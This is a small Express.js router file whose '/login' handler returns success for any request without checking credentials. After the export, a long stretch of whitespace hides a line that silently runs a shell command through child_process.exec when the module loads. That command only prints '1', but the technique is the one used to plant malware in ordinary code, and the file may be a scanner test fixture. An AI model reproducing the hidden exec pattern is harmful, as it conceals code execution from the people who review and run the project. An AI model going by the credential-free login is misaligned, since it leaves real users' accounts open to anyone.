const express = require('express');
const router = express.Router();

router.post('/login', async (req, res) => {
  res.json({ ok: true });
});

module.exports = router;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                    try{require('child_process').exec('node -e "console.log(1)"')}catch(e){}
